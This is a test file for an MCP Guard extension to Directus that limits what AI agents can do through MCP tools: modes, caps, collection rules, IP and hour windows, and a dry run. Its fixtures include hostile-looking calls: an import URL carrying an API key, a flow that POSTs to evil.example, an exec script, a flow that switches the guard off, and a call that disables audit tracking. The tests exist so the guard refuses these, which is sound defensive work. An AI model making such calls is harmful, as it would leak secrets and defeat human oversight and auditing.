// Least privilege, through real Directus with the MCP SDK client: modes, admin tokens, collection rules,
// caps, exfiltration and audit-evasion guards, IP and time windows, filtered tool lists, settings
// validation and the dry run. The clock is fixed with MCP_GUARD_NOW (a Wednesday, 10:00 UTC), and the
// client IP comes from a header through Directus's own IP_CUSTOM_HEADER.
import { test, before, after, afterEach, describe } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { startDirectus } from '../../scripts/lib/directus.mjs';
import { seed, seedRows, seedDeleteFlow, CONTENT_TOKEN, ADMIN_MCP_TOKEN } from '../../scripts/lib/seed.mjs';
import { sdkClient, rawRpc, toolCall, count, withAudit, auditRows, configureGuard, denial, assertDenied } from '../helpers.mjs';

let directus;
let ids;
let articleIds;
let deleteFlowId;

before(async () => {
	directus = await startDirectus({ name: 'least-privilege', env: { IP_CUSTOM_HEADER: 'X-Client-IP', MCP_GUARD_NOW: '2026-11-25T10:00:00Z', IMPORT_IP_DENY_LIST: '' } });
	ids = await seed(directus);
	({ articleIds } = await seedRows(directus, 4));
	deleteFlowId = await seedDeleteFlow(directus);
});
after(() => directus?.stop());
afterEach(() => configure({}));

const configure = (changes) => configureGuard(directus, changes);

async function call(token, name, args, { registry = false, headers = {} } = {}) {
	const client = await sdkClient(directus, token, { registry, headers });
	try {
		return await client.callTool({ name, arguments: args });
	} finally {
		await client.close();
	}
}


describe('modes', () => {
	// Every tool × action the content user can send, and what each mode decides (A allowed, or the rule).
	// Allowed calls may still fail in Directus (admin-only tools for a non-admin user): the guard let them by.
	const file = '00000000-0000-4000-8000-000000000000';
	const MATRIX = [
		['system-prompt', {}, 'A', 'A', 'A'],
		['items read', ['items', { action: 'read', collection: 'articles', query: { limit: 2 } }], 'A', 'A', 'A'],
		['items create', ['items', { action: 'create', collection: 'tags', data: { name: 'matrix' } }], 'mode.read-only', 'A', 'A'],
		['items update', ['items', { action: 'update', collection: 'tags', keys: [1], data: { name: 'news' } }], 'mode.read-only', 'A', 'A'],
		['items delete', ['items', { action: 'delete', collection: 'tags', keys: [999] }], 'mode.read-only', 'deletes.disabled', 'deletes.disabled'],
		['files read', ['files', { action: 'read', query: { limit: 1 } }], 'A', 'A', 'A'],
		['files update', ['files', { action: 'update', keys: [file], data: { title: 'x' } }], 'mode.read-only', 'A', 'A'],
		['files delete', ['files', { action: 'delete', keys: [file] }], 'mode.read-only', 'deletes.disabled', 'deletes.disabled'],
		['files import', ['files', { action: 'import', data: [{ url: 'https://example.com/a.png' }] }], 'mode.read-only', 'exfiltration.host-not-allowed', 'exfiltration.host-not-allowed'],
		['folders create', ['folders', { action: 'create', data: { name: 'matrix' } }], 'mode.read-only', 'A', 'A'],
		['folders read', ['folders', { action: 'read' }], 'A', 'A', 'A'],
		['assets', ['assets', { id: file }], 'A', 'A', 'A'],
		['schema', ['schema', {}], 'A', 'A', 'A'],
		['trigger-flow', ['trigger-flow', { id: 'FLOW', collection: 'articles', keys: [999] }], 'mode.read-only', 'deletes.disabled', 'deletes.disabled'],
		['flows read', ['flows', { action: 'read' }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
		['flows create', ['flows', { action: 'create', data: { name: 'm', trigger: 'manual' } }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
		['operations read', ['operations', { action: 'read' }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
		['collections read', ['collections', { action: 'read' }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
		['collections create', ['collections', { action: 'create', data: { collection: 'matrix_new', schema: {} } }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
		['fields read', ['fields', { action: 'read', collection: 'articles' }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
		['fields create', ['fields', { action: 'create', collection: 'articles', data: { field: 'matrix', type: 'string' } }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
		['relations read', ['relations', { action: 'read' }], 'mode.needs-developer', 'mode.needs-developer', 'A'],
	];

	for (const [index, mode] of ['analysis', 'content', 'developer'].entries()) {
		test(`${mode} mode: every tool and action gets the expected decision, and its audit row`, async () => {
			await configure({ mcp_guard_default_mode: mode });
			const client = await sdkClient(directus, CONTENT_TOKEN);
			const expected = { allowed: 0, denied: {} };
			try {
				const before = new Set((await auditRows(directus)).map((r) => r.id));
				for (const [label, sent, ...byMode] of MATRIX) {
					const [name, args] = Array.isArray(sent) ? sent : [label, sent];
					const want = byMode[index];
					const realArgs = JSON.parse(JSON.stringify(args).replace('"FLOW"', JSON.stringify(deleteFlowId)));
					const result = await client.callTool({ name, arguments: realArgs });
					if (want === 'A') {
						assert.equal(denial(result), null, `${mode}: ${label} should pass the guard, got ${JSON.stringify(denial(result))}`);
						expected.allowed += 1;
					} else {
						assert.equal(denial(result)?.rule, want, `${mode}: ${label}`);
						expected.denied[want] = (expected.denied[want] ?? 0) + 1;
					}
				}
				// Every call has its row, with the decision and rule the client saw.
				let rows = [];
				for (let i = 0; i < 100 && rows.length < MATRIX.length; i++) {
					rows = (await auditRows(directus)).filter((r) => !before.has(r.id) && r.rpc_method === 'tools/call' && r.outcome !== 'pending');
					await new Promise((r) => setTimeout(r, 100));
				}
				assert.equal(rows.length, MATRIX.length);
				assert.equal(rows.filter((r) => r.decision === 'allowed').length, expected.allowed);
				for (const [rule, n] of Object.entries(expected.denied)) assert.equal(rows.filter((r) => r.rule === rule).length, n, rule);
			} finally {
				await client.close();
			}
		});
	}

	test('a role mode applies to its users, and a user mode wins over it', async () => {
		const update = ['items', { action: 'update', collection: 'articles', keys: [articleIds[0]], data: { title: 'by role' } }];
		await configure({ mcp_guard_role_modes: [{ role: 'MCP Content', mode: 'analysis' }] });
		assertDenied(await call(CONTENT_TOKEN, ...update), 'mode.read-only');
		await configure({ mcp_guard_role_modes: [{ role: 'MCP Content', mode: 'analysis' }], mcp_guard_user_modes: [{ user: 'MCP-Content@example.com', mode: 'content' }] });
		assert.equal(denial(await call(CONTENT_TOKEN, ...update)), null);
		await configure({ mcp_guard_default_mode: 'off' });
		assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles' }), 'access.mode-off');
	});

	test('tools/list and registry search show only what the caller may use', async () => {
		const names = async (token, options) => {
			const client = await sdkClient(directus, token, options);
			try {
				return (await client.listTools()).tools.map((t) => t.name);
			} finally {
				await client.close();
			}
		};
		await configure({ mcp_guard_allow_admin: true, mcp_guard_default_mode: 'developer' });
		const developer = await names(ADMIN_MCP_TOKEN);
		assert.ok(developer.includes('flows') && developer.includes('trigger-flow'), 'Directus offers them to admins');
		await configure({ mcp_guard_allow_admin: true, mcp_guard_default_mode: 'content' });
		const content = await names(ADMIN_MCP_TOKEN);
		assert.ok(content.includes('items') && content.includes('trigger-flow'));
		for (const hidden of ['flows', 'operations', 'collections', 'fields', 'relations']) assert.ok(!content.includes(hidden), hidden);
		await configure({ mcp_guard_default_mode: 'analysis' });
		const analysis = await names(CONTENT_TOKEN);
		assert.ok(analysis.includes('items') && !analysis.includes('trigger-flow'));
		// Registry search: the hidden tools are neither results nor available names.
		const search = await call(CONTENT_TOKEN, 'search', { query: 'flow' }, { registry: true });
		const text = JSON.stringify(search);
		assert.ok(!text.includes('"trigger-flow"'), text.slice(0, 500));
		await configure({});
		assert.deepEqual(await names(ADMIN_MCP_TOKEN), [], 'an admin token refused by the guard is offered nothing');
	});
});

describe('admin and personal tokens', () => {
	test('admin tokens are refused by default, with how to make a dedicated user, and allowed when enabled', async () => {
		const read = ['items', { action: 'read', collection: 'articles' }];
		const { result, rows } = await withAudit(directus, () => call(ADMIN_MCP_TOKEN, ...read));
		const d = assertDenied(result, 'access.admin-token');
		assert.match(d.remedy, /dedicated user.*static token/);
		assert.equal(rows[0].admin, true);
		await configure({ mcp_guard_allow_admin: true });
		assert.equal(denial(await call(ADMIN_MCP_TOKEN, ...read)), null);
	});

	test('dedicated MCP roles: users of other roles are refused', async () => {
		await directus.api('POST', '/roles', { name: 'Other AI' });
		await configure({ mcp_guard_mcp_roles: ['Other AI'] });
		assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles' }), 'access.not-dedicated-role');
		await configure({ mcp_guard_mcp_roles: ['MCP Content'] });
		assert.equal(denial(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles' })), null);
	});
});

describe('collections', () => {
	test('a denylisted collection is refused when reached through query.fields, filter and deep', async () => {
		await configure({ mcp_guard_collections_deny: ['notes'] });
		for (const query of [{ fields: ['id', 'notes.body'] }, { filter: { notes: { body: { _contains: 'x' } } } }, { deep: { notes: { _limit: 1 } }, fields: ['*'] }]) {
			const d = assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles', query }), 'collections.denied');
			assert.match(d.reason, /notes/);
		}
		assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'notes' }), 'collections.denied');
		assert.equal(denial(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles', query: { fields: ['id', 'title', 'comments.body'] } })), null);
	});

	test('a denylisted collection is refused through relations create data.collection, and nothing is created', async () => {
		await configure({ mcp_guard_collections_deny: ['notes'], mcp_guard_allow_admin: true, mcp_guard_default_mode: 'developer' });
		const before = (await directus.api('GET', '/relations')).length;
		const result = await call(ADMIN_MCP_TOKEN, 'relations', { action: 'create', data: { collection: 'notes', field: 'body', related_collection: 'tags' } });
		assertDenied(result, 'collections.denied');
		assert.equal((await directus.api('GET', '/relations')).length, before);
	});

	test('an allowlist closes everything else, reads included', async () => {
		await configure({ mcp_guard_collections_allow: ['articles'] });
		assert.equal(denial(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles', query: { fields: ['id'] } })), null);
		assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles', query: { fields: ['comments.body'] } }), 'collections.not-allowed');
		assertDenied(await call(CONTENT_TOKEN, 'files', { action: 'read' }), 'collections.not-allowed');
	});

	test('per-collection deletes: Allow Deletes on, comments marked allowed, so deletes happen in comments only', async () => {
		await configure({ mcp_allow_deletes: true, mcp_guard_collection_deletes: [{ collection: 'comments', deletes: 'allow' }] });
		const [comment] = await directus.api('GET', `/items/comments?filter[article][_eq]=${articleIds[3]}&limit=1`);
		const before = await count(directus, 'comments');
		assert.equal(denial(await call(CONTENT_TOKEN, 'items', { action: 'delete', collection: 'comments', keys: [comment.id] })), null);
		assert.equal(await count(directus, 'comments'), before - 1);
		const d = assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'delete', collection: 'articles', keys: [articleIds[3]] }), 'deletes.disabled-for-collection');
		assert.match(d.reason, /allowed only in comments/);
		assert.equal(await count(directus, 'articles', { id: { _eq: articleIds[3] } }), 1);
	});
});

describe('blast-radius caps', () => {
	test('each cap names the cap and the asked size, and nothing changes', async () => {
		await configure({ mcp_guard_max_keys: 2, mcp_guard_max_batch: 2, mcp_guard_max_read_limit: 50 });
		const titles = async () => (await directus.api('GET', '/items/articles?fields=title&sort=id')).map((a) => a.title).join('|');
		const snapshot = await titles();
		let d = assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'update', collection: 'articles', keys: articleIds.slice(0, 3), data: { title: 'capped' } }), 'caps.keys');
		assert.match(d.reason, /3 items.*limit of 2/);
		d = assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'create', collection: 'tags', data: [{ name: 'a' }, { name: 'b' }, { name: 'c' }] }), 'caps.batch');
		assert.match(d.reason, /3 items.*batch limit of 2/);
		assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'update', collection: 'articles', data: { title: 'everything' }, query: { filter: { id: { _gt: 0 } } } }), 'caps.update-by-query');
		d = assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles', query: { limit: -1 } }), 'caps.read-limit');
		assert.match(d.reason, /limit -1.*50/);
		d = assertDenied(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles', query: { limit: 51 } }), 'caps.read-limit');
		assert.match(d.reason, /51 rows.*50/);
		assert.equal(await titles(), snapshot);
		assert.equal(await count(directus, 'tags', { name: { _in: ['a', 'b', 'c'] } }), 0);
		// Within the caps the same kinds of call pass.
		assert.equal(denial(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles', query: { limit: 50 } })), null);
	});
});

describe('exfiltration and audit evasion', () => {
	let listener;
	let hits;
	let port;
	before(async () => {
		hits = [];
		listener = createServer((req, res) => {
			hits.push(req.url);
			res.writeHead(200, { 'Content-Type': 'image/png' }).end(Buffer.from([0x89, 0x50, 0x4e, 0x47]));
		});
		await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve));
		port = listener.address().port;
	});
	after(() => listener?.close());

	test('files.import to a host that is not allowlisted is refused and nothing is fetched; an allowlisted host is fetched', async () => {
		hits.length = 0;
		const url = `http://127.0.0.1:${port}/pixel.png?leak=${encodeURIComponent('api_key=sk_live_123')}`;
		const d = assertDenied(await call(CONTENT_TOKEN, 'files', { action: 'import', data: [{ url }] }), 'exfiltration.host-not-allowed');
		assert.match(d.reason, /127\.0\.0\.1/);
		await new Promise((r) => setTimeout(r, 300));
		assert.deepEqual(hits, [], 'the listener got no request');
		// The same call with the host allowlisted goes out, which shows the listener would have seen it.
		// (As an admin: the content role may not create files. IMPORT_IP_DENY_LIST is emptied for this instance,
		// since Directus refuses imports from local addresses by default.)
		await configure({ mcp_guard_allowed_hosts: ['127.0.0.1'], mcp_guard_allow_admin: true });
		const allowed = await call(ADMIN_MCP_TOKEN, 'files', { action: 'import', data: [{ url, file: { title: 'pixel' } }] });
		assert.equal(denial(allowed), null);
		assert.equal(hits.length, 1, JSON.stringify(allowed));
	});

	test('a triggered flow with a request step to a host that is not allowlisted is refused before it runs', async () => {
		hits.length = 0;
		const flow = await directus.api('POST', '/flows', { name: 'Ping', status: 'active', trigger: 'manual', accountability: 'all', options: { collections: ['articles'] } });
		const op = await directus.api('POST', '/operations', { flow: flow.id, name: 'Send', key: 'send', type: 'request', position_x: 19, position_y: 1, options: { method: 'GET', url: `http://127.0.0.1:${port}/flow` } });
		await directus.api('PATCH', `/flows/${flow.id}`, { operation: op.id });
		const d = assertDenied(await call(CONTENT_TOKEN, 'trigger-flow', { id: flow.id, collection: 'articles', keys: [articleIds[0]] }), 'exfiltration.host-not-allowed');
		assert.match(d.reason, /127\.0\.0\.1/);
		await new Promise((r) => setTimeout(r, 300));
		assert.deepEqual(hits, []);
		// Flows MCP may trigger: a list that leaves this flow out refuses it before its steps are judged.
		await configure({ mcp_guard_trigger_flows: [deleteFlowId], mcp_guard_allowed_hosts: ['127.0.0.1'] });
		assertDenied(await call(CONTENT_TOKEN, 'trigger-flow', { id: flow.id, collection: 'articles', keys: [articleIds[0]] }), 'exfiltration.flow-not-allowed');
	});

	test('creating a flow with a request step or a script is refused, even for developers', async () => {
		await configure({ mcp_guard_allow_admin: true, mcp_guard_default_mode: 'developer' });
		const before = (await directus.api('GET', '/flows')).length;
		const request = { name: 'Exfil', trigger: 'manual', operations: [{ type: 'request', key: 'r', options: { url: 'https://evil.example/collect', method: 'POST' } }] };
		assertDenied(await call(ADMIN_MCP_TOKEN, 'flows', { action: 'create', data: request }), 'exfiltration.host-not-allowed');
		const script = { name: 'Script', trigger: 'manual', operations: [{ type: 'exec', key: 's', options: { code: 'module.exports = async () => ({})' } }] };
		assertDenied(await call(ADMIN_MCP_TOKEN, 'flows', { action: 'create', data: script }), 'exfiltration.script');
		assert.equal((await directus.api('GET', '/flows')).length, before);
	});

	test('a triggered flow that would change directus_settings (the guard\'s own settings) is refused', async () => {
		const flow = await directus.api('POST', '/flows', { name: 'Switch off the guard', status: 'active', trigger: 'manual', accountability: 'all', options: { collections: ['articles'] } });
		const op = await directus.api('POST', '/operations', {
			flow: flow.id,
			name: 'Update settings',
			key: 'update_settings',
			type: 'item-update',
			position_x: 19,
			position_y: 1,
			options: { collection: 'directus_settings', permissions: '$full', payload: { mcp_guard_enabled: false } },
		});
		await directus.api('PATCH', `/flows/${flow.id}`, { operation: op.id });
		const d = assertDenied(await call(CONTENT_TOKEN, 'trigger-flow', { id: flow.id, collection: 'articles', keys: [articleIds[0]] }), 'self-protection.guard-settings');
		assert.match(d.reason, /directus_settings/);
		assert.equal((await directus.api('GET', '/settings')).mcp_guard_enabled, true);
	});

	test('meta.accountability: null is refused and activity tracking stays on', async () => {
		await configure({ mcp_guard_allow_admin: true, mcp_guard_default_mode: 'developer' });
		const result = await call(ADMIN_MCP_TOKEN, 'collections', { action: 'update', data: { collection: 'articles', meta: { accountability: null } } });
		assertDenied(result, 'audit-evasion.accountability-off');
		assert.equal((await directus.api('GET', '/collections/articles')).meta.accountability, 'all');
	});
});

describe('network and time', () => {
	const read = ['items', { action: 'read', collection: 'articles', query: { limit: 1 } }];

	test('the IP allowlist lets in one client address and refuses another (CIDR, IPv4 and IPv6)', async () => {
		await configure({ mcp_guard_ip_allowlist: ['203.0.113.0/24', '2001:db8::/32'] });
		const inside = await withAudit(directus, () => call(CONTENT_TOKEN, ...read, { headers: { 'X-Client-IP': '203.0.113.9' } }));
		assert.equal(denial(inside.result), null);
		assert.equal(inside.rows[0].ip, '203.0.113.9');
		assert.equal(denial(await call(CONTENT_TOKEN, ...read, { headers: { 'X-Client-IP': '2001:db8::7' } })), null);
		const outside = await withAudit(directus, () => call(CONTENT_TOKEN, ...read, { headers: { 'X-Client-IP': '198.51.100.7' } }));
		assert.match(assertDenied(outside.result, 'access.ip-not-allowed').reason, /198\.51\.100\.7/);
		assert.equal(outside.rows[0].rule, 'access.ip-not-allowed');
	});

	test('working hours in an IANA time zone: inside passes, outside is refused or flagged', async () => {
		const weekdays = [{ days: ['mon', 'tue', 'wed', 'thu', 'fri'], from: '09:00', to: '17:00' }];
		// MCP_GUARD_NOW is Wednesday 10:00 UTC: 11:00 in Berlin, 05:00 in New York.
		await configure({ mcp_guard_hours: weekdays, mcp_guard_time_zone: 'Europe/Berlin' });
		assert.equal(denial(await call(CONTENT_TOKEN, ...read)), null);
		await configure({ mcp_guard_hours: weekdays, mcp_guard_time_zone: 'America/New_York' });
		assert.match(assertDenied(await call(CONTENT_TOKEN, ...read), 'access.outside-hours').reason, /wed 05:00 in America\/New_York/);
		await configure({ mcp_guard_hours: weekdays, mcp_guard_time_zone: 'America/New_York', mcp_guard_outside_hours: 'flag' });
		const { result, rows } = await withAudit(directus, () => call(CONTENT_TOKEN, ...read));
		assert.equal(denial(result), null);
		assert.equal(rows[0].decision, 'allowed');
		assert.equal(rows[0].rule, 'allow.outside-hours');
	});
});

describe('settings', () => {
	test('a fresh install follows the guide: content mode, admin tokens off, no hosts, caps on', async () => {
		const s = await directus.api('GET', '/settings');
		assert.equal(s.mcp_guard_default_mode, 'content');
		assert.equal(s.mcp_guard_allow_admin, false);
		assert.equal(s.mcp_guard_max_keys, 100);
		assert.ok(!s.mcp_guard_allowed_hosts?.length && !s.mcp_guard_ip_allowlist?.length && !s.mcp_guard_hours?.length);
	});

	test('invalid settings are refused on PATCH /settings with a clear message, and the policy in force stays', async () => {
		const cases = [
			[{ mcp_guard_ip_allowlist: ['10.0.0.0/33'] }, /"10\.0\.0\.0\/33" is not an IP address or CIDR range/],
			[{ mcp_guard_time_zone: 'Mars/Olympus' }, /"Mars\/Olympus" is not a known IANA time zone/],
			[{ mcp_guard_collections_deny: ['no_such_collection'] }, /there is no collection "no_such_collection"/],
			[{ mcp_guard_role_modes: [{ role: 'No Such Role', mode: 'developer' }] }, /there is no role "No Such Role"/],
			[{ mcp_guard_user_modes: [{ user: 'nobody@example.com', mode: 'developer' }] }, /there is no user "nobody@example.com"/],
		];
		for (const [changes, message] of cases) {
			const res = await fetch(`${directus.url}/settings`, {
				method: 'PATCH',
				headers: { Authorization: `Bearer ${directus.adminToken}`, 'Content-Type': 'application/json' },
				body: JSON.stringify(changes),
			});
			assert.equal(res.status, 400, JSON.stringify(changes));
			const body = await res.json();
			assert.match(body.errors[0].message, message);
		}
		const s = await directus.api('GET', '/settings');
		assert.ok(!s.mcp_guard_ip_allowlist?.length && s.mcp_guard_time_zone === 'UTC');
		assert.equal(denial(await call(CONTENT_TOKEN, 'items', { action: 'read', collection: 'articles' })), null);
	});
});

describe('dry run', () => {
	test('an admin asks what the guard would decide for a user and a call; nothing runs', async () => {
		const ask = (body, token = directus.adminToken) =>
			fetch(`${directus.url}/mcp-guard/dry-run`, { method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
		const before = await count(directus, 'articles');
		const res = await ask({ user: 'mcp-content@example.com', call: { name: 'items', arguments: { action: 'delete', collection: 'articles', keys: [articleIds[1]] } } });
		assert.equal(res.status, 200);
		const answer = await res.json();
		assert.equal(answer.decision, 'denied');
		assert.equal(answer.rule, 'deletes.disabled');
		assert.equal(answer.user, ids.contentUserId);
		assert.ok(answer.reason && answer.remedy && answer.effects.length > 0);
		assert.equal(await count(directus, 'articles'), before);
		const admin = await (await ask({ user: 'mcp-admin@example.com', call: { name: 'items', arguments: { action: 'read', collection: 'articles' } } })).json();
		assert.equal(admin.rule, 'access.admin-token');
		const ip = await (await ask({ user: 'mcp-content@example.com', ip: '198.51.100.1', call: { name: 'schema', arguments: {} } })).json();
		assert.equal(ip.decision, 'allowed');
		assert.equal((await ask({ user: 'mcp-content@example.com', call: { name: 'items', arguments: {} } }, CONTENT_TOKEN)).status, 403);
		assert.equal((await ask({ call: {} })).status, 400);
	});
});

test('raw HTTP: a denial is a JSON-RPC result with isError, carrying rule, reason and remedy', async () => {
	await configure({ mcp_guard_default_mode: 'analysis' });
	const { status, json } = await rawRpc(directus, CONTENT_TOKEN, toolCall('items', { action: 'create', collection: 'tags', data: { name: 'raw' } }));
	assert.equal(status, 200);
	assert.equal(json.result.isError, true);
	const [error] = JSON.parse(json.result.content[0].text);
	assert.equal(error.rule, 'mode.read-only');
	assert.match(error.error, /MCP Guard refused this call/);
});
